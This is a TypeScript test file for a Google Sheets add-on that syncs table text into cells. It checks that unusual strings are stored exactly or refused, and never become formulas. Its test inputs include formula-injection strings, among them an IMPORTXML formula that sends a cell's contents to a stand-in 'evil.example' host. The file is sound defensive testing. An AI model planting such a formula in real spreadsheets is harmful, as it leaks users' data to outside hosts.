import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAddon } from '../../addon/build.ts';
import type { Offer } from '../../shared/protocol/offer.ts';
import { createLocalGoogle, type LocalGoogle } from '../google/local-google.ts';
import type { ScriptInstall } from '../google/script/install.ts';
import { areaOf } from '../google/workbook/area.ts';
import type { Tab } from '../google/workbook/tab.ts';
import { chosen, type Unconfirmed } from '../google/workbook/unconfirmed.ts';
import { ScriptedHub } from './support/scripted-hub.ts';

/**
 * Text from the table through the built bundle, with every open question about Sheets answered either way: each text is
 * stored exactly, or its cell is as it was and the refusal is told. None is a formula, not for a moment.
 */

const TEXTS = [
  ...['007', '1-2', 'TRUE', 'wahr', '1e5', '12:30', '$100.15', '50%', '1/2/2020', '2020-01-01', '١٢٣'],
  ...['=1+1', '+1 555 0100', '-A1', '@x', '=IMPORTXML("https://evil.example/?"&A1,"//a")', ' =1+1', '\t=1+1', '\r=1+1'],
  ...["'quoted", "'", "''twice''", "'=1+1", "it's"],
  ...[' leading', 'trailing ', ' ', '  ', '\ttab', 'two\nlines', 'old\rmac', 'dos\r\nlines', '\n'],
  ...['emoji 👩‍👩‍👧', 'שלום', 'e\u0301', '\u00a0', '\u200b', '{=1}', '"=1"', 'https://example.com/?a=1'],
  '='.padEnd(50_000, 'x'),
  'x'.repeat(50_000),
];

let dir: string;
let google: LocalGoogle;
let hub: ScriptedHub;
let tab: Tab;
let install: ScriptInstall;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tandem-text-'));
  await buildAddon({ outdir: dir, apiUrl: 'https://tandem.example.com' });
  google = await createLocalGoogle();
  hub = new ScriptedHub();
  hub.kinds = { id: 'integer' };
  google.network.interceptor = hub.intercept;
  const ann = google.person('ann@example.com');
  const document = google.createSpreadsheet({ owner: ann, timeZone: 'Europe/Berlin' });
  tab = document.workbook.tabs[0]!;
  tab.setInputs(1, 1, [['id', 'text'], ...TEXTS.map((_, index) => [index + 1, 'old'])]);
  install = await google.installScript({ spreadsheet: document, dir, person: ann });
  const columns = ['id', 'text'].map((header) => ({ header, column: header, direction: 'both' as const }));
  await install.run('rpc', ['link', [tab.id, { schema: 'public', table: 'notes', columns }]]);
  await install.run('rpc', ['start', [tab.id, { winner: 'table' }]]);
});

afterAll(async () => {
  await google.close();
  await rm(dir, { recursive: true });
});

/** Formulas that stood in the tab at any moment, however short. */
function watchFormulas(): { seen: Set<string>; stop: () => void } {
  const { workbook } = tab;
  const seen = new Set<string>();
  const changed = workbook.formulaChanged.bind(workbook);
  workbook.formulaChanged = (of) => {
    for (let row = 2; row <= TEXTS.length + 1; row++) seen.add(tab.formula(row, 2));
    changed(of);
  };
  return { seen, stop: () => (workbook.formulaChanged = changed) };
}

async function write(answers: Partial<Unconfirmed>): Promise<void> {
  const { workbook } = tab;
  workbook.unconfirmed = { ...chosen };
  const column = areaOf(2, 2, TEXTS.length, 1);
  tab.setNumberFormat(column, null);
  tab.setInputs(
    2,
    2,
    TEXTS.map(() => ['old']),
  );
  workbook.unconfirmed = { ...chosen, ...answers };
  hub.sent.length = 0;
  hub.offers = TEXTS.map((text, index): Offer => {
    const cells = [{ column: 'c2', base: 'old', value: text }];
    return { id: `o${index}`, key: String(index + 1), kind: 'update', cells };
  });
  const watch = watchFormulas();
  const answer = (await install.run('rpc', ['syncNow', [tab.id]])) as { ok: boolean };
  watch.stop();
  expect([answer.ok, install.failures]).toEqual([true, []]);
  const results = new Map(hub.acks.flatMap((ack) => ack.results).map(({ offer, cells }) => [offer, cells['c2']!]));
  TEXTS.forEach((text, index) => {
    const outcome = results.get(`o${index}`)!;
    const row = index + 2;
    expect([text, tab.formula(row, 2)]).toEqual([text, '']);
    if (outcome.outcome === 'applied') expect([outcome.readback, tab.value(row, 2)]).toEqual([text, text]);
    else {
      expect([text, outcome.outcome, tab.value(row, 2), tab.numberFormat(row, 2)]).toEqual([
        text,
        'invalid',
        'old',
        '',
      ]);
      expect(outcome.reason).toMatch(/Sheets would change this text/);
    }
  });
  // The only formula ever tried is one that reads nothing.
  expect([...watch.seen].filter((formula) => formula !== '' && formula !== '=0')).toEqual([]);
}

/** Chips and tables are tried in addon-cells.test.ts and sheets-cells.test.ts. */
const elsewhere: (keyof Unconfirmed)[] = ['chipsReadAsPlaceholders', 'typedColumnsRefuse', 'tablesGrow'];
const questions = (Object.keys(chosen) as (keyof Unconfirmed)[]).filter((one) => !elsewhere.includes(one));
const aboutText: (keyof Unconfirmed)[] = [
  'plainTextStopsFormulas',
  'plainTextDropsApostrophe',
  'apostropheMeansText',
  'richTextIsLiteral',
];

describe('[I17] text of the table in the sheet', () => {
  it('is stored exactly, all of it, as Sheets is expected to behave', async () => {
    await write({});
    expect(TEXTS.map((_, index) => tab.value(index + 2, 2))).toEqual(TEXTS);
  });

  it.each(questions)('is stored exactly or held if the answer to %s is the other one', (question) =>
    write({ [question]: false }),
  );

  it('is stored exactly or held whichever of the four ways to write text fail', async () => {
    for (let combination = 0; combination < 16; combination++) {
      await write(Object.fromEntries(aboutText.map((question, bit) => [question, (combination & (1 << bit)) === 0])));
    }
  });
});
